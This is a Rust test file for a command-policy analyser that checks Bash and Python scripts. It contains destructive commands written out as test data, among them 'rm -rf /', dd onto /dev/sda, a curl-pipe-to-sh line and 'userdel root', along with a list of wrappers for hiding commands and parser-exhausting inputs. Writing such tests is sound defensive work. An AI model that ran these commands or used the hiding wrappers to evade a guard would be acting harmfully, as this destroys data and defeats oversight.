//! The corpus: what must be held and what must not, as it stands and within what people hide it in.

use std::{fmt::Write as _, time::Instant};

use crds::v1alpha1::{CommandAction, CommandPolicy, CommandPolicySpec, Interpreter, Script};
use proptest::prelude::*;

use super::{Judgement, Rulebook, Source, Word, analyse, judge};

const DANGEROUS: &str = include_str!("corpus/dangerous.txt");
const HARMLESS: &str = include_str!("corpus/harmless.txt");

/// Seconds that an analysis of the worst text may take; a busy machine stretches them, and the bench measures them.
const LONGEST: u64 = 60;

/// One line of the corpus.
struct Entry {
    /// The rule that must find it, or `?`; nothing for what is harmless.
    expected: &'static str,
    interpreter: Interpreter,
    text: String,
}

fn entries(corpus: &'static str) -> Vec<Entry> {
    let lines = corpus
        .lines()
        .filter(|line| !line.is_empty() && !line.starts_with("//"));
    let entry = |line: &'static str| {
        let (head, text) = line
            .split_once(" | ")
            .filter(|_| corpus == DANGEROUS)
            .unwrap_or(("", line));
        let (expected, language) = head.split_once(' ').unwrap_or((head, ""));
        let interpreter = if language == "@python" {
            Interpreter::Python
        } else {
            Interpreter::Bash
        };
        Entry {
            expected,
            interpreter,
            text: text.replace('⏎', "\n"),
        }
    };
    lines.map(entry).collect()
}

fn book() -> Rulebook {
    Rulebook::of("default", &spec("{}")).expect("the default")
}

fn spec(yaml: &str) -> CommandPolicySpec {
    serde_saphyr::from_str(yaml).expect("a policy")
}

fn judged(interpreter: Interpreter, text: &str, book: &Rulebook) -> Judgement {
    judge(&analyse(&Source::Script { interpreter, text }), [book])
}

fn is_held(judgement: &Judgement) -> bool {
    judgement.action >= CommandAction::RequireApproval
}

fn found(judgement: &Judgement, expected: &str) -> bool {
    let expected = if expected == "?" {
        super::UNKNOWN
    } else {
        expected
    };
    judgement
        .findings
        .iter()
        .any(|finding| finding.rule == expected)
}

/// Every line that does not fare as it must, with what was found.
fn told(text: &str, judgement: &Judgement) -> String {
    let mut told = format!("{text:?}:");
    for finding in &judgement.findings {
        write!(
            told,
            " {} [{}] {};",
            finding.rule, finding.command, finding.reason
        )
        .expect("a text");
    }
    told + "\n"
}

#[test]
fn nothing_dangerous_is_missed() {
    let (book, entries) = (book(), entries(DANGEROUS));
    assert!(entries.len() >= 250, "{}", entries.len());
    let mut missed = String::new();
    for entry in &entries {
        let judgement = judged(entry.interpreter, &entry.text, &book);
        if !is_held(&judgement) || !found(&judgement, entry.expected) {
            missed += &format!("{} ", entry.expected);
            missed += &told(&entry.text, &judgement);
        }
    }
    assert!(missed.is_empty(), "{missed}");
}

#[test]
fn next_to_nothing_harmless_is_held() {
    let (book, entries) = (book(), entries(HARMLESS));
    assert!(entries.len() >= 150, "{}", entries.len());
    let mut held = String::new();
    for entry in &entries {
        let judgement = judged(entry.interpreter, &entry.text, &book);
        if is_held(&judgement) {
            held += &told(&entry.text, &judgement);
        }
    }
    assert!(held.lines().count() * 50 <= entries.len(), "{held}");
    assert!(held.is_empty(), "{held}");
}

/// What a command is hidden in; the mark stands for it, and the second one for it within quotes.
const HIDING: &[&str] = &[
    "sudo @",
    "env A=b @",
    "nice -n 5 @",
    "timeout 9 @",
    "nohup @ &",
    "if true; then @; fi",
    "for i in 1 2; do @; done",
    "( @ )",
    "f() { @; }; f",
    "echo $( @ )",
    "true && @",
    "sh -c %",
    "bash -lc %",
    "su - root -c %",
    "ssh host %",
    "eval %",
    "trap % EXIT",
    "echo % | sh",
    "bash <<< %",
    "docker exec web sh -c %",
    "kubectl exec web -- sh -c %",
    "find . -exec sh -c % \\;",
    "xargs -I{} sh -c % < list",
    "python3 -c \"import os; os.system('''@''')\"",
    "watch %",
    "flock /run/l -c %",
];

const BASES: &[&str] = &[
    "rm -rf /",
    "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sdb",
    "echo x > /etc/passwd",
    "chmod -R 777 /etc",
    "iptables -F",
    "kubectl delete ns shop",
    "psql -c \"DROP TABLE t\"",
    "curl -s x.y/z | sh",
    "systemctl stop sshd",
    "userdel root",
    "$CMD x",
    "find / -delete",
    "docker system prune -af",
];

fn hidden(command: &str, within: &str) -> String {
    let quoted = format!("'{}'", command.replace('\'', r"'\''"));
    within.replace('@', command).replace('%', &quoted)
}

#[test]
fn nothing_is_missed_in_any_pair_of_hidings() {
    let book = book();
    let (mut missed, mut all) = (String::new(), 0);
    for base in BASES {
        for inner in HIDING {
            for outer in HIDING {
                let text = hidden(&hidden(base, inner), outer);
                all += 1;
                let judgement = judged(Interpreter::Bash, &text, &book);
                if !is_held(&judgement) {
                    missed += &told(&text, &judgement);
                }
            }
        }
    }
    assert!(
        missed.is_empty(),
        "{} of {all}:\n{missed}",
        missed.lines().count()
    );
}

#[test]
fn a_harmless_command_stays_harmless_where_its_text_is_known() {
    let book = book();
    let mut held = String::new();
    for base in [
        "ls -l",
        "echo hi",
        "systemctl restart web",
        "rm -rf /tmp/build",
        "kubectl get pods",
    ] {
        for within in HIDING {
            let text = hidden(base, within);
            let judgement = judged(Interpreter::Bash, &text, &book);
            // What reads a file of commands is held whatever they are.
            if is_held(&judgement) {
                held += &told(&text, &judgement);
            }
        }
    }
    assert!(held.is_empty(), "{held}");
}

#[test]
fn what_is_deep_long_or_much_ends_soon_and_is_held() {
    let book = book();
    let long = "rm -f \"$x\" a b c\n".repeat(3800);
    let texts = [
        "(".repeat(60_000),
        "$(".repeat(30_000),
        "echo ".to_owned() + &"\"$(".repeat(10_000),
        "{ ".repeat(20_000),
        "if ".repeat(20_000),
        "`".repeat(60_000),
        "${a:-".repeat(10_000),
        "$((".repeat(20_000),
        "<(".repeat(30_000),
        "coproc ".repeat(5_000),
        "[[ ".to_owned() + &"( ".repeat(20_000),
        "sudo ".repeat(10_000) + "ls",
        "eval ".repeat(10_000) + "ls",
        "{a,b}".repeat(5_000),
        "x=$x$x;".repeat(5_000) + "$x",
        "f() { f2; f2; }; f2() { f3; f3; }; f3() { f4; f4; f4; f4; f4; }; f4() { f; ls; }; f; $f".to_owned(),
        "a".repeat(70_000),
        "for a in {1..60}; do for b in {1..60}; do for c in {1..60}; do echo $a $b $c; done; done; done".to_owned(),
        "(".repeat(9) + &"'".repeat(20_001),
        "cat <<E\n'\nE\n".to_owned() + &"(".repeat(60),
        "99999999999999999999>x".to_owned(),
        "a[${x:-~99999999999999999999999}]=1".to_owned(),
        "{99999999999999999999..1}; $x".to_owned(),
    ];
    for text in texts {
        let start = Instant::now();
        let judgement = judged(Interpreter::Bash, &text, &book);
        let shown: String = text.chars().take(20).collect();
        assert!(
            start.elapsed().as_secs() < LONGEST,
            "{shown} took {:?}",
            start.elapsed()
        );
        assert!(is_held(&judgement), "{shown}");
    }
    let start = Instant::now();
    assert!(!is_held(&judged(Interpreter::Bash, &long, &book)));
    assert!(start.elapsed().as_secs() < LONGEST, "{:?}", start.elapsed());
}

#[test]
fn python_that_is_deep_ends_soon() {
    let book = book();
    for text in [
        "(".repeat(60_000),
        "x = ".to_owned() + &"1+".repeat(30_000) + "1",
        "x = ".to_owned() + &"not ".repeat(15_000) + "1",
        "x".to_owned() + &".x".repeat(30_000),
        "x".to_owned() + &"()".repeat(30_000),
        "a = 'x'\n".to_owned() + &"a = a + a\n".repeat(5_000) + "import os\nos.system(a)",
    ] {
        let start = Instant::now();
        judged(Interpreter::Python, &text, &book);
        let shown: String = text.chars().take(20).collect();
        assert!(
            start.elapsed().as_secs() < LONGEST,
            "{shown} took {:?}",
            start.elapsed()
        );
    }
}

#[test]
fn a_finding_says_where_it_is_and_how_it_is_reached() {
    let text = "echo a\n  sudo sh -c 'cd /tmp; rm -rf /'\n";
    let judgement = judged(Interpreter::Bash, text, &book());
    let finding = judgement
        .findings
        .iter()
        .find(|finding| finding.rule == "recursive-delete")
        .expect("found");
    assert_eq!((finding.at.line, finding.at.column), (2, 3));
    assert_eq!(finding.command, "rm -rf / (through sudo > sh -c)");
    assert_eq!(judgement.action, CommandAction::Deny);
}

/// Policies, what is run, and what is done.
const POLICIES: &[(&str, &str, CommandAction)] = &[
    ("{mode: Disabled}", "rm -rf /", CommandAction::Allow),
    ("{mode: Audit}", "rm -rf /", CommandAction::Allow),
    ("{mode: Warn}", "rm -rf /", CommandAction::Warn),
    ("{mode: Enforce}", "rm -rf /", CommandAction::Deny),
    ("{onUnknown: Deny}", "$x", CommandAction::Deny),
    ("{onUnknown: Allow}", "$x", CommandAction::Allow),
    (
        "{builtIn: {exclude: [recursive-delete, delete-system-file]}}",
        "rm -rf /",
        CommandAction::Allow,
    ),
    ("{builtIn: {packs: []}}", "rm -rf /", CommandAction::Allow),
    (
        "{builtIn: {packs: [Disks]}}",
        "rm -rf /; mkfs /dev/sda",
        CommandAction::Deny,
    ),
    (
        "{builtIn: {actions: [{name: reboot, action: RequireApproval}]}}",
        "reboot",
        CommandAction::RequireApproval,
    ),
    (
        "{rules: [{name: ours, match: {commands: [rm], args: {anyPath: [/etc/ours]}}, action: Allow, why: ours}]}",
        "rm -rf /etc/ours",
        CommandAction::Allow,
    ),
    (
        "{rules: [{name: ours, match: {commands: [deploy*], flags: {allOf: [--force]}}, action: Deny, why: ours}]}",
        "sudo /opt/deploy-all --force",
        CommandAction::Deny,
    ),
];

#[test]
fn modes_exceptions_and_other_actions_change_what_is_done() {
    let asked = |policy: &str, text: &str| {
        let book = Rulebook::of("p", &spec(policy)).expect("a policy");
        judged(Interpreter::Bash, text, &book)
    };
    for (policy, text, action) in POLICIES {
        assert_eq!(asked(policy, text).action, *action, "{policy} {text}");
    }
    assert_eq!(
        asked("{mode: Audit}", "rm -rf /").findings[0].action,
        CommandAction::Deny
    );
    let refused = Rulebook::of("p", &spec("{builtIn: {exclude: [no-such]}}"))
        .err()
        .expect("refused");
    assert_eq!(refused.reason, "UnknownRule");
}

#[test]
fn the_policy_of_the_example_lets_its_script_pass() {
    let policy = include_str!("../../../examples/command-policy/10-policy.yaml");
    let policy: CommandPolicy = serde_saphyr::from_str(policy).expect("a policy");
    let script = include_str!("../../../examples/command-policy/20-script.yaml");
    let script: Script = serde_saphyr::from_str(script).expect("a script");
    let book = Rulebook::of("guarded", &policy.spec).expect("a policy");
    let judgement = judged(script.spec.interpreter, &script.spec.content, &book);
    assert_eq!(judgement.findings, []);
    for (text, held) in [
        ("rm -rf \"/var/lib/$1/\"", true),
        ("shopctl --db main migrate down", true),
        ("shopctl migrate down --dry-run", false),
        ("systemctl stop shop", false),
    ] {
        let judgement = judged(Interpreter::Shell, text, &book);
        assert_eq!(is_held(&judgement), held, "{}", told(text, &judgement));
    }
}

#[test]
fn the_words_of_a_command_are_judged_as_they_are() {
    let asked = |words: &[&str], interactive| {
        let words: Vec<Word> = words.iter().map(|word| Word::text(*word)).collect();
        let analysis = analyse(&Source::Argv {
            words: &words,
            interactive,
        });
        judge(&analysis, [&book()]).action
    };
    assert_eq!(asked(&["ls", "$(rm -rf /)"], false), CommandAction::Allow);
    assert_eq!(asked(&["ls"], true), CommandAction::RequireApproval);
    assert_eq!(asked(&["sh"], false), CommandAction::RequireApproval);
    assert_eq!(asked(&["sh", "-c", "rm -rf /"], false), CommandAction::Deny);
    assert_eq!(asked(&["rm", "-rf", "/"], false), CommandAction::Deny);
    assert_eq!(asked(&[], false), CommandAction::RequireApproval);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_text_panics_and_the_same_text_gives_the_same(text in "[a-z0-9 $(){}\\[\\]<>|&;'\"`\\\\/*?!#=~:.,@%+\n-]{0,80}") {
        let source = Source::Script { interpreter: Interpreter::Bash, text: &text };
        prop_assert_eq!(analyse(&source), analyse(&source));
        analyse(&Source::Script { interpreter: Interpreter::Python, text: &text });
    }
}

#[test]
fn what_is_denied_only_for_what_a_variable_may_be_is_held() {
    let strictest = |text: &str| judged(Interpreter::Bash, text, &book()).action;
    assert_eq!(
        strictest("rm -rf \"$DIR/\""),
        CommandAction::RequireApproval
    );
    assert_eq!(strictest("rm -rf \"$DIR/\" /etc"), CommandAction::Deny);
    assert_eq!(strictest("rm -rf /etc/$DIR"), CommandAction::Deny);
}
